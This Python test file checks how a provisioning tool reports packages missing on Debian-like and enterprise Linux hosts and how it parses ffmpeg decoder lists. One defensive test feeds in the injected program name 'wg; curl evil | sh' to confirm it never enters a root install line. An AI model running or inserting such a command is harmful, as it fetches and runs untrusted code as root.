"""What a host lacks is told with the line that installs it, where the system's packages are known."""

import os
from pathlib import Path

import pytest

from provisioner.hosts.answers import wire
from provisioner.hosts.preparation import FAMILIES, family_of, lacks
from provisioner_host.machine import paths, shell
from provisioner_host.observe import machine

PROGRAMS = {*machine.NEEDED, machine.NEEDED_WITHOUT_KERNEL, machine.NEEDED_FOR_UNITS, machine.NEEDED_OF_FFMPEG}
# As ffmpeg 5.1 of Debian 12 lists some of its decoders; flags of another width would be another program's.
DECODERS = """Decoders:
 V..... = Video
 ------
 V....D 4xm                  4X Movie
 VFS..D h264                 H.264 / AVC / MPEG-4 AVC / MPEG-4 part 10
 V..... h264_v4l2m2m         V4L2 mem2mem H.264 decoder wrapper (codec h264)
 VFS..D hevc                 HEVC (High Efficiency Video Coding)
 A....D aac                  AAC (Advanced Audio Coding)
"""


def named(name: str, *like: str) -> wire.SystemAnswer:
    """A system as its host tells of it."""
    return {"id": name, "version": "9.4", "like": list(like)}


ROCKY = named("rocky", "rhel", "centos", "fedora")


@pytest.mark.parametrize("system", sorted(FAMILIES))
def test_of_every_program_that_a_host_looks_for_it_is_known_what_brings_it(system: str) -> None:
    family = FAMILIES[system]
    assert {program for program in PROGRAMS if family.knows(program)} == PROGRAMS
    assert family.packages.keys().isdisjoint(family.without)
    assert set(family.origins) <= set(family.packages.values())


@pytest.mark.parametrize(
    "system",
    [named("debian"), named("ubuntu", "debian"), named("raspbian", "debian"), named("linuxmint", "ubuntu", "debian")],
)
def test_debian_and_what_is_like_it_gets_the_line_that_installs(system: wire.SystemAnswer) -> None:
    error = lacks("relay-viettel-1", system, ("wireguard-go", "ffmpeg", "nft", "systemd-run", "dbus", "wg", "ip"))
    packages = "dbus, ffmpeg, iproute2, nftables, systemd, wireguard-go, wireguard-tools"
    assert error.message == f"relay-viettel-1 lacks {packages}"
    line = f"apt-get install -y {packages.replace(',', '')}"
    assert error.hint == f"run on it, as root: {line}; or from here: provisioner hosts prepare relay-viettel-1"
    assert (error.object, error.exit_code) == ("relay-viettel-1", 5)


@pytest.mark.parametrize(("system", "name"), [(named("arch"), "arch"), (named(""), "its system")])
def test_of_another_system_programs_are_named_and_no_package_invented(system: wire.SystemAnswer, name: str) -> None:
    error = lacks("relay-viettel-1", system, ("wg", "nft"))
    assert error.message == "relay-viettel-1 lacks the programs nft, wg"
    assert error.hint == f"install on it what brings them: the package names of {name} are not known here"


def test_what_a_host_calls_a_program_never_stands_in_a_line_for_root() -> None:
    error = lacks("relay-viettel-1", named("debian"), ("nft", "wg; curl evil | sh"))
    assert error.message == "relay-viettel-1 lacks the programs nft, wg; curl evil | sh"
    assert "apt-get" not in error.hint


def test_the_name_of_a_system_is_not_longer_than_a_name() -> None:
    error = lacks("relay-viettel-1", named("x" * 5000), ("nft",))
    assert len(error.hint) < 200


@pytest.mark.parametrize(
    "system",
    [
        ROCKY,
        named("almalinux", "rhel", "centos", "fedora"),
        named("rhel", "fedora"),
        named("centos", "rhel", "fedora"),
        named("ol", "fedora"),
    ],
)
def test_an_enterprise_linux_is_told_its_own_packages(system: wire.SystemAnswer) -> None:
    error = lacks("relay-vnpt-1", system, ("wg", "nft", "ss", "ip"))
    assert error.message == "relay-vnpt-1 lacks iproute, nftables, wireguard-tools"
    line = "dnf install -y iproute nftables wireguard-tools"
    assert error.hint == f"run on it, as root: {line}; or from here: provisioner hosts prepare relay-vnpt-1"
    family = family_of(system)
    assert family is not None
    assert (family.ssh_unit, family.selinux_tools) == ("sshd.service", "policycoreutils-python-utils")


def test_of_what_the_system_itself_does_not_have_it_is_said_where_it_comes_from() -> None:
    error = lacks("relay-vnpt-1", ROCKY, ("nft", "ffmpeg", "wireguard-go"))
    assert error.message == "relay-vnpt-1 lacks ffmpeg, nftables, wireguard-go"
    line, origin, kernel = error.hint.split("; ", 2)[0], "RPM Fusion (free)", "boot the system's own kernel"
    assert line == "run on it, as root: dnf install -y ffmpeg nftables"
    assert origin in error.hint
    assert kernel in error.hint


def test_an_ffmpeg_that_does_not_decode_what_cameras_send_is_a_precondition_that_is_not_met() -> None:
    error = lacks("relay-vnpt-1", ROCKY, ("ffmpeg-decoders",))
    assert error.message == "relay-vnpt-1 lacks ffmpeg's decoders of H.264 and H.265"
    assert error.hint.startswith("put RPM Fusion's ffmpeg in the place of EPEL's")
    debian = lacks("relay-vnpt-1", named("debian"), ("ffmpeg-decoders",))
    assert debian.hint.startswith("the ffmpeg that is first in its path")


@pytest.mark.parametrize(
    ("said", "decodes"),
    [
        (DECODERS, True),
        (DECODERS.replace(" VFS..D hevc ", " VFS..D vc1 "), False),
        # A wrapper of a device's own decoder, or of another library, is none that reads every stream.
        (DECODERS.replace(" VFS..D h264 ", " V....D libopenh264 "), False),
        ("", True),
    ],
)
def test_the_list_of_decoders_says_whether_both_are_there(said: str, *, decodes: bool) -> None:
    assert machine.decodes(said) is decodes


def test_a_host_with_such_an_ffmpeg_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(paths, "KNOWN", tmp_path / "known")
    programs = tmp_path / "bin"
    programs.mkdir()
    for name in (*machine.NEEDED, "dbus-broker-launch"):
        (programs / name).write_text("#!/bin/sh\nexit 0\n")
        (programs / name).chmod(0o755)
    path = f"{programs}:{os.environ['PATH']}"
    monkeypatch.setattr(machine, "PATH", str(programs))
    monkeypatch.setattr(shell, "PATH", path)
    monkeypatch.setenv("PATH", path)
    monkeypatch.setattr(machine, "_BUS", tmp_path)
    monkeypatch.setattr(machine, "kernel_has_wireguard", lambda: True)
    (programs / "ffmpeg").write_text(f"#!/bin/sh\ncat <<'E'\n{DECODERS}E\n")
    assert machine.missing_programs() == []
    (programs / "ffmpeg").write_text("#!/bin/sh\necho ' V....D 4xm                  4X Movie'\n")
    assert machine.missing_programs() == ["ffmpeg-decoders"]
    # What is left of a package that was removed is no bus.
    (programs / "dbus-broker-launch").unlink()
    assert machine.missing_programs() == ["dbus", "ffmpeg-decoders"]
    (programs / "dbus-daemon").write_text("#!/bin/sh\n")
    (programs / "dbus-daemon").chmod(0o755)
    assert machine.missing_programs() == ["ffmpeg-decoders"]


def test_a_host_tells_its_system_by_its_os_release(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    release = tmp_path / "os-release"
    monkeypatch.setattr(machine, "_OS_RELEASE", release)
    assert machine._system_release() == {"id": "", "version": "", "like": []}  # noqa: SLF001
    release.write_text('# a comment\n\nNAME="X"\nVERSION_ID="21.3"\nID=\'linuxmint\'\nID_LIKE="ubuntu debian"\n')
    assert machine._system_release() == {"id": "linuxmint", "version": "21.3", "like": ["ubuntu", "debian"]}  # noqa: SLF001
